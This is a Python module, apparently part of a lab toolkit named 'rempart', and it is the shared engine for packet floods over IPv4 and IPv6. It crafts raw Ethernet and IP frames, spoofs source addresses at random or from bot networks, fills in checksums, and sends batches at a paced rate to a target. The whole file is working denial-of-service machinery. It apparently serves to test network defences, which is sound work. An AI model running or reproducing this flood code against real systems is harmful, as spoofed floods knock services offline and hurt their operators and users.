"""Floods of one kind of packet, over IPv4 and IPv6: what the packet floods have in common.

    Packet (all after the IP header) ──Batch──► frames with addresses and checksums ──live_frames──► the wire

A module with a flood of its own says what its packet is and which fields change; the rest is done here.
"""

from __future__ import annotations

import contextlib
import ipaddress
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass

import numpy as np

from rempart.lab.attacks.contract import AttackParameters, Order
from rempart.lab.attacks.live_frames import LiveFrames, Taken
from rempart.lab.attacks.packets import (
    BATCH,
    BATCHES,
    Frames,
    Numbers,
    Turn,
    any_sources,
    ethernet,
    folded,
    ones_complement,
    own_address,
    put16,
    put32,
    send_paced,
    source_pool,
)
from rempart.lab.attacks.reporting import Tally

ETHERNET, IPV4, IPV6 = 14, 20, 40
"""Lengths of headers."""
TCP, UDP, FRAGMENT = 6, 17, 44
"""Protocol numbers; the last is IPv6's fragment header (RFC 8200 section 4.5)."""
UDP_HEADER = 8
HOPS = 64
DONT_FRAGMENT = 0x4000

MEMORY = 16 << 20
"""Octets that all batches of an attack may take: large packets have fewer batches."""
FEWEST_BATCHES = 8


@dataclass(frozen=True, slots=True)
class Packet:
    """One kind of packet of one IP version."""

    protocol: int
    body: bytes
    """All that follows the IP header."""
    renew: Callable[[Frames, int, np.random.Generator], None]
    """Writes what changes into frames whose body begins at the offset given; addresses and checksums are not
    its business."""
    checksum_at: int | None
    """Where in the body the checksum over pseudo-header and body stands; None: there is none."""
    flags: int = DONT_FRAGMENT
    """IPv4's flags and fragment offset."""


class Addresses:
    """Draws source addresses as an attack's source model says."""

    def __init__(self, order: Order, parameters: AttackParameters, chosen: np.random.Generator) -> None:
        self._chosen = chosen
        self._v4 = source_pool(order, parameters, chosen)
        self._v6: Frames | None = None
        if self._v4 is not None and order.bots.v6:
            networks = np.array(
                [list(ipaddress.IPv6Network(net).network_address.packed) for net in order.bots.v6],
                dtype=np.uint8,
            )
            count = round(parameters.source_count * parameters.v6_share)
            self._v4, count = self._v4[: max(1, parameters.source_count - count)], max(1, count)
            self._v6 = networks[chosen.integers(0, len(networks), count)]
            # A /48 is a customer: bots are in any of its networks.
            self._v6[:, 6:] = chosen.integers(0, 256, (count, 10), dtype=np.uint8)

    def v4(self, count: int) -> Numbers:
        if self._v4 is None:
            return any_sources(count, self._chosen)
        return self._v4[self._chosen.integers(0, len(self._v4), count)]

    def v6(self, count: int) -> Frames:
        """Rows of 16 octets."""
        if self._v6 is not None:
            return self._v6[self._chosen.integers(0, len(self._v6), count)]
        rows = self._chosen.integers(0, 256, (count, 16), dtype=np.uint8)
        rows[:, 0] = 0x20 | (rows[:, 0] & 0x1F)  # 2000::/3, all that is global unicast
        return rows


class Batch:
    """As many frames of one packet as one system call sends."""

    def __init__(self, order: Order, own_mac: str, packet: Packet, *, v6: bool) -> None:
        self._packet, self.v6 = packet, v6
        self._body = ETHERNET + (IPV6 if v6 else IPV4)
        header = _ipv6(order, packet) if v6 else _ipv4(order, packet)
        frame = ethernet(order, own_mac, v6=v6) + header + packet.body
        self.frames: Frames = np.tile(np.frombuffer(frame, dtype=np.uint8), (BATCH, 1)).copy()

    def move_to(self, place: Frames) -> None:
        """Have the frames in ``place`` from now on."""
        place[:] = self.frames
        self.frames = place

    def refresh(self, sources: Addresses, chosen: np.random.Generator) -> None:
        """Make every frame another packet."""
        frames = self.frames
        if self.v6:
            frames[:, ETHERNET + 8 : ETHERNET + 24] = sources.v6(BATCH)
            self._packet.renew(frames, self._body, chosen)
        else:
            put32(frames, ETHERNET + 12, sources.v4(BATCH))
            put16(frames, ETHERNET + 4, chosen.integers(0, 65_536, BATCH, dtype=np.uint32))
            self._packet.renew(frames, self._body, chosen)
            frames[:, ETHERNET + 10 : ETHERNET + 12] = 0
            put16(frames, ETHERNET + 10, folded(ones_complement(frames, ETHERNET, self._body)))
        if self._packet.checksum_at is not None:
            self._write_checksum(self._body + self._packet.checksum_at)

    def _write_checksum(self, at: int) -> None:
        frames, end = self.frames, self.frames.shape[1]
        frames[:, at : at + 2] = 0
        addresses = ETHERNET + (8 if self.v6 else 12)
        sums = ones_complement(frames, addresses, self._body)
        sums += np.uint32(self._packet.protocol + end - self._body)
        even = end - (end - self._body) % 2
        sums += ones_complement(frames, self._body, even)
        if even != end:
            sums += frames[:, even].astype(np.uint32) << 8
        values = folded(sums)
        if self._packet.protocol == UDP:
            # A sum of zero would say that there is none (RFC 768).
            values[values == 0] = 0xFFFF
        put16(frames, at, values)


def flood(order: Order, parameters: AttackParameters, tally: Tally, packet: Callable[[bool], Packet]) -> None:
    """Send packets at the ordered rate until the order is over. ``packet(v6)`` says what they are."""
    chosen = np.random.default_rng(order.seed)
    sources = Addresses(order, parameters, chosen)
    batches = batches_of(order, own_address(order.interface), parameters, packet)
    of_version = Counter(batch.v6 for batch in batches)
    with contextlib.ExitStack() as stack:
        taken = stack.enter_context(contextlib.closing(Taken()))
        live = {
            batch.v6: stack.enter_context(
                contextlib.closing(
                    LiveFrames(order.interface, of_version[batch.v6] * BATCH, batch.frames.shape[1], taken)
                )
            )
            for batch in {batch.v6: batch for batch in batches}.values()
        }
        filled: Counter[bool] = Counter()
        turns = []
        for batch in batches:
            turn = Turn(live[batch.v6], filled[batch.v6])
            batch.move_to(turn.frames.frames[turn.first : turn.first + BATCH])
            filled[batch.v6] += BATCH
            turns.append(turn)
        send_paced(order, parameters, tally, turns, lambda turn: batches[turn].refresh(sources, chosen))


def batches_of(
    order: Order, own_mac: str, parameters: AttackParameters, packet: Callable[[bool], Packet]
) -> list[Batch]:
    """The batches that take turns; IPv6's share of them is spread evenly."""
    size = BATCH * (ETHERNET + IPV6 + len(packet(True).body))
    count = max(FEWEST_BATCHES, min(BATCHES, MEMORY // size))
    share = parameters.v6_share
    versions = [int((n + 1) * share) > int(n * share) for n in range(count)]
    return [Batch(order, own_mac, packet(v6), v6=v6) for v6 in versions]


def udp(to_port: int, payload: bytes) -> bytes:
    """A UDP datagram without source port and checksum, which are written for each packet."""
    return (
        bytes(2)
        + to_port.to_bytes(2, "big")
        + (UDP_HEADER + len(payload)).to_bytes(2, "big")
        + bytes(2)
        + payload
    )


def any_ports(chosen: np.random.Generator, *, least: int = 1_024) -> Numbers:
    """A port for every frame of a batch."""
    return chosen.integers(least, 65_536, BATCH, dtype=np.uint32)


def _ipv4(order: Order, packet: Packet) -> bytes:
    """Header without source, identification and checksum (RFC 791)."""
    length = (IPV4 + len(packet.body)).to_bytes(2, "big")
    middle = bytes(2) + packet.flags.to_bytes(2, "big") + bytes((HOPS, packet.protocol)) + bytes(2)
    return b"\x45\x00" + length + middle + bytes(4) + ipaddress.IPv4Address(order.target.v4).packed


def _ipv6(order: Order, packet: Packet) -> bytes:
    """Header without source (RFC 8200)."""
    head = b"\x60\x00\x00\x00" + len(packet.body).to_bytes(2, "big") + bytes((packet.protocol, HOPS))
    return head + bytes(16) + ipaddress.IPv6Address(order.target.v6).packed
